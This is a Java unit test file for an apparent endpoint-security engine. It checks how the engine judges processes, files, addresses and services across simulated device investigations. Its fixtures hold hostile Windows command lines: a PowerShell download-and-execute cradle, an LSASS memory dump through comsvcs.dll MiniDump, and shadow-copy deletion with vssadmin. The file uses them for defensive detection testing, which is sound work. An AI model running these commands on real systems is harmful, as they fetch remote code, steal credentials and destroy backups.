package dupin.engine.analyzer;

import static org.assertj.core.api.Assertions.assertThat;

import static dupin.engine.EngineCase.evidence;
import static dupin.engine.EngineCase.link;
import static dupin.engine.EngineCase.process;

import dupin.engine.EngineCase;
import dupin.model.Entity;
import dupin.model.EventKind;
import dupin.model.LinkRole;
import dupin.model.Severity;
import dupin.model.Verdict;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

/// What whole investigations of devices come to.
class DeviceVerdictsTest {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final Entity.Process EXPLORER =
            process("pc1", 400, -9000, "C:\\Windows\\explorer.exe", "explorer.exe");
    private static final Entity.Process WORD =
            process(
                    "pc1",
                    500,
                    0,
                    "C:\\Program Files\\Office\\WINWORD.EXE",
                    "\"WINWORD.EXE\" \"C:\\Users\\ann\\Downloads\\order.docm\"");
    private static final Entity.Process SHELL =
            process(
                    "pc1",
                    600,
                    10,
                    SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')");

    private static EngineCase phish() {
        return new EngineCase().started(EXPLORER, WORD).started(WORD, SHELL).alert("a1", Severity.MEDIUM, SHELL);
    }

    @Test
    void aShellOutOfADocumentIsMaliciousAndItsFileIsNot() {
        var result = phish().alert("a2", Severity.MEDIUM, SHELL.imageFile()).investigate();
        assertThat(result.verdict(SHELL)).isEqualTo(Verdict.MALICIOUS);
        assertThat(result.verdict(WORD).incriminates()).isTrue();
        assertThat(result.verdict(SHELL.imageFile())).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    @Test
    void descendantsComeIntoScopeAndCarryTheVerdict() {
        var child = process("pc1", 700, 20, SYSTEM32 + "whoami.exe", "whoami");
        var result = phish().started(SHELL, child).investigate();
        assertThat(result.verdict(child).incriminates()).isTrue();
        assertThat(result.weightIds(child)).contains("lineage.child");
    }

    @Test
    void theRootOfTheSessionIsNotDrawnIn() {
        assertThat(phish().investigate().inScope(EXPLORER)).isFalse();
    }

    @Test
    void thePidOfADifferentTimeIsAnotherProcess() {
        var later = process("pc1", 600, 90_000, SYSTEM32 + "notepad.exe", "notepad.exe");
        var result = phish().started(EXPLORER, later).investigate();
        assertThat(result.inScope(later)).isFalse();
    }

    @Test
    void aMemoryDumpOfLsassIsMaliciousWhoeverRunsIt() {
        var dump =
                process(
                        "pc1",
                        900,
                        5,
                        SYSTEM32 + "rundll32.exe",
                        "rundll32.exe comsvcs.dll, MiniDump 700 C:\\x.bin full");
        var result = new EngineCase().started(EXPLORER, dump).alert("a1", Severity.LOW, dump).investigate();
        assertThat(result.verdict(dump)).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void anOrdinaryProcessUnderAMediumAlertIsClean() {
        var editor = process("pc1", 901, 5, "C:\\Program Files\\Editor\\editor.exe", "editor.exe notes.txt");
        var result = new EngineCase().started(EXPLORER, editor).alert("a1", Severity.MEDIUM, editor).investigate();
        assertThat(result.verdict(editor)).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    @Test
    void withoutTelemetryNothingIsCalledClean() {
        var editor = process("pc1", 901, 5, "C:\\Program Files\\Editor\\editor.exe", "editor.exe notes.txt");
        var result = new EngineCase().alert("a1", Severity.LOW, editor).investigate();
        assertThat(result.verdict(editor)).isEqualTo(Verdict.NOT_EVALUABLE);
        assertThat(result.run().verdicts())
                .filteredOn(j -> j.entity().equals(editor))
                .allSatisfy(j -> assertThat(j.ledger().missing()).contains("process events"));
    }

    @Test
    void theNightlyRoutineOfAnAgentSpeaksAgainst() {
        var routine = new EngineCase();
        Entity.Process last = null;
        for (int day = 0; day < 3; day++) {
            for (String device : List.of("pc1", "pc2", "pc3")) {
                var agent = process(device, 50, -90_000, "C:\\Program Files\\Deploy\\agent.exe", "agent.exe");
                last =
                        process(
                                device,
                                1000 + day,
                                day * 86_400L,
                                SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                                "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\\ProgramData\\Deploy\\job.ps1");
                routine.started(agent, last);
            }
        }
        assertThat(last).isNotNull();
        var result = routine.alert("a1", Severity.MEDIUM, last).investigate();
        assertThat(result.verdict(last)).isEqualTo(Verdict.NO_THREATS_FOUND);
        assertThat(result.weightIds(last)).contains("process.recurrent");
    }

    @Test
    void theSameCommandOnManyDevicesInOneHourIsNoRoutine() {
        var spread = new EngineCase();
        Entity.Process last = null;
        for (int i = 1; i <= 5; i++) {
            var tool = process("pc" + i, 50, 0, "C:\\ProgramData\\x\\t.exe", "t.exe");
            last = process("pc" + i, 1000, i, SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet");
            spread.started(tool, last);
        }
        assertThat(last).isNotNull();
        var result = spread.alert("a1", Severity.HIGH, last).investigate();
        assertThat(result.weightIds(last)).doesNotContain("process.recurrent", "process.repeated");
        assertThat(result.verdict(last)).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void reachingIntoLsassCountsByRightsAndPlace() {
        var lsass = process("pc1", 700, -9000, SYSTEM32 + "lsass.exe", "lsass.exe");
        var odd = process("pc1", 910, 5, "C:\\Users\\ann\\AppData\\Local\\Temp\\u.exe", "u.exe");
        var defender =
                process("pc1", 911, 5, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\1\\MsMpEng.exe", "");
        var asks = process("pc1", 912, 5, "C:\\Users\\ann\\AppData\\Local\\Temp\\v.exe", "v.exe");
        var result =
                new EngineCase()
                        .started(EXPLORER, odd)
                        .started(EXPLORER, defender)
                        .started(EXPLORER, asks)
                        .did(
                                EventKind.PROCESS_ACCESS,
                                6,
                                odd,
                                LinkRole.TARGET,
                                lsass,
                                Map.of("GrantedAccess", "0x1410"))
                        .did(
                                EventKind.PROCESS_ACCESS,
                                6,
                                defender,
                                LinkRole.TARGET,
                                lsass,
                                Map.of("GrantedAccess", "0x1410"))
                        .did(
                                EventKind.PROCESS_ACCESS,
                                6,
                                asks,
                                LinkRole.TARGET,
                                lsass,
                                Map.of("GrantedAccess", "0x1000"))
                        .alert("a1", Severity.LOW, odd, defender, asks)
                        .investigate();
        assertThat(result.weightIds(odd)).contains("access.lsass");
        assertThat(result.weightIds(defender)).doesNotContain("access.lsass", "access.lsass-kept");
        assertThat(result.weightIds(asks)).doesNotContain("access.lsass");
    }

    @Test
    void anIncriminatedFileReachesTheOtherDevicesBelowTheGate() {
        var result = outbreak(5).investigate();
        assertThat(result.run().gates()).isEmpty();
        assertThat(result.inScope(Entity.Device.named("pc5"))).isTrue();
    }

    @Test
    void tenDevicesFromOneFileAskFirst() {
        var result = outbreak(12).investigate();
        assertThat(result.run().gates()).hasSize(1);
        assertThat(result.run().gates().getFirst().devices()).hasSize(11);
        assertThat(result.inScope(Entity.Device.named("pc9"))).isFalse();
    }

    @Test
    void approvedDevicesAreLookedAt() {
        var approved = outbreak(12);
        outbreak(12)
                .investigate()
                .run()
                .gates()
                .getFirst()
                .devices()
                .forEach(key -> approved.seed(Entity.Device.named(key.value())));
        var result = approved.investigate();
        assertThat(result.run().gates()).isEmpty();
        assertThat(result.verdict(malware(9))).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aProgramOfWindowsLeadsNowhere() {
        var dump =
                process(
                        "pc1",
                        900,
                        5,
                        SYSTEM32 + "rundll32.exe",
                        "rundll32.exe comsvcs.dll, MiniDump 700 C:\\x.bin full");
        var other =
                new Entity.Process(
                        "pc2",
                        33,
                        EngineCase.at(7),
                        "",
                        "rundll32.exe shell32.dll,Control_RunDLL",
                        dump.imageFile(),
                        "corp\\bob",
                        0,
                        null,
                        "");
        var result =
                new EngineCase()
                        .started(EXPLORER, dump)
                        .started(EXPLORER, other)
                        .alert("a1", Severity.HIGH, dump, dump.imageFile())
                        .investigate();
        assertThat(result.inScope(Entity.Device.named("pc2"))).isFalse();
        assertThat(result.verdict(dump.imageFile())).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    @Test
    void theProviderIsNotHeardInABlindReview() {
        var editor = process("pc1", 901, 5, "C:\\Program Files\\Editor\\editor.exe", "editor.exe");
        var policy = EngineCase.policy().withLimits(7, 100, 10, false, true);
        var result =
                new EngineCase()
                        .with(policy)
                        .started(EXPLORER, editor)
                        .alert("a1", Severity.LOW, List.of(evidence(editor, "malicious")))
                        .investigate();
        assertThat(result.weightIds(editor)).noneMatch(id -> id.startsWith("provider."));
    }

    @Test
    void anAddressThatOnlyMaliciousProcessesTalkToIsMalicious() {
        var ip = Entity.IpAddress.of("198.51.100.7");
        var calm = Entity.IpAddress.of("198.51.100.8");
        var browser = process("pc1", 950, 5, "C:\\Program Files\\B\\chrome.exe", "chrome.exe");
        var result =
                phish().started(EXPLORER, browser)
                        .did(
                                EventKind.NETWORK_CONNECTION,
                                12,
                                SHELL,
                                LinkRole.DESTINATION,
                                ip,
                                Map.of("RemotePort", "443"))
                        .did(
                                EventKind.NETWORK_CONNECTION,
                                13,
                                browser,
                                LinkRole.DESTINATION,
                                calm,
                                Map.of("RemotePort", "443"))
                        .alert("a2", Severity.LOW, ip, calm)
                        .investigate();
        assertThat(result.verdict(ip)).isEqualTo(Verdict.MALICIOUS);
        assertThat(result.verdict(calm)).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    @Test
    void aServiceHostOnThePayloadsChannelIsMaliciousOneOnASharedServerIsNot() {
        var host = process("pc1", 960, -500, SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs");
        var services = process("pc1", 44, -9000, SYSTEM32 + "services.exe", "services.exe");
        var ip = Entity.IpAddress.of("198.51.100.7");
        var alone = onPort(phish().started(services, host), host, ip, 2).investigate();
        assertThat(alone.verdict(host)).isEqualTo(Verdict.MALICIOUS);
        assertThat(alone.weightIds(host)).contains("process.same-channel");
        var shared = onPort(phish().started(services, host), host, ip, 9).alert("a3", Severity.LOW, host).investigate();
        assertThat(shared.weightIds(host)).doesNotContain("process.same-channel");
        assertThat(shared.verdict(host)).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    private static EngineCase onPort(EngineCase some, Entity.Process host, Entity.IpAddress ip, int talkers) {
        some.did(EventKind.NETWORK_CONNECTION, 12, SHELL, LinkRole.DESTINATION, ip, Map.of("RemotePort", "5678"));
        some.did(EventKind.NETWORK_CONNECTION, 13, host, LinkRole.DESTINATION, ip, Map.of("RemotePort", "5678"));
        for (int i = 2; i < talkers; i++) {
            var other = process("pc1", 2000 + i, 1, "C:\\Program Files\\V\\v" + i + ".exe", "v.exe");
            some.started(EXPLORER, other);
            some.did(
                    EventKind.NETWORK_CONNECTION,
                    14 + i,
                    other,
                    LinkRole.DESTINATION,
                    ip,
                    Map.of("RemotePort", "5678"));
        }
        return some;
    }

    @Test
    void aServiceThatWritesToAPipeIsMaliciousAndAnInstalledOneIsNot() {
        var bad = new Entity.Service("pc1", "abcd", "", "cmd.exe /c echo abcd > \\\\.\\pipe\\abcd");
        var good = new Entity.Service("pc1", "vendor", "", "\"C:\\Program Files\\Vendor\\svc.exe\" --run");
        var services = process("pc1", 44, -9000, SYSTEM32 + "services.exe", "services.exe");
        var result =
                new EngineCase()
                        .event(
                                EventKind.SERVICE_INSTALLED,
                                4,
                                Map.of(),
                                link(LinkRole.DEVICE, Entity.Device.named("pc1")),
                                link(LinkRole.ACTOR, services),
                                link(LinkRole.TARGET, bad))
                        .event(
                                EventKind.SERVICE_INSTALLED,
                                5,
                                Map.of(),
                                link(LinkRole.DEVICE, Entity.Device.named("pc1")),
                                link(LinkRole.ACTOR, services),
                                link(LinkRole.TARGET, good))
                        .alert("a1", Severity.LOW, bad, good)
                        .investigate();
        assertThat(result.verdict(bad)).isEqualTo(Verdict.MALICIOUS);
        assertThat(result.verdict(good)).isEqualTo(Verdict.NO_THREATS_FOUND);
    }

    private static Entity.Process malware(int device) {
        var image =
                new Entity.File(
                        "u.exe", "C:\\Users\\Public\\u.exe", "ab".repeat(32), "", "", 0, "", "", "", "pc" + device);
        return new Entity.Process(
                "pc" + device, 70, EngineCase.at(device), "", "u.exe", image, "corp\\ann", 0, null, "");
    }

    private static EngineCase outbreak(int devices) {
        var outbreak = new EngineCase();
        for (int i = 1; i <= devices; i++) {
            var child = process("pc" + i, 71, i + 1, SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all");
            outbreak.started(process("pc" + i, 44, -9000, SYSTEM32 + "services.exe", "services.exe"), malware(i))
                    .started(malware(i), child);
        }
        return outbreak.alert(
                "a1",
                Severity.HIGH,
                List.of(evidence(malware(1), "malicious"), evidence(malware(1).imageFile(), "malicious")));
    }
}
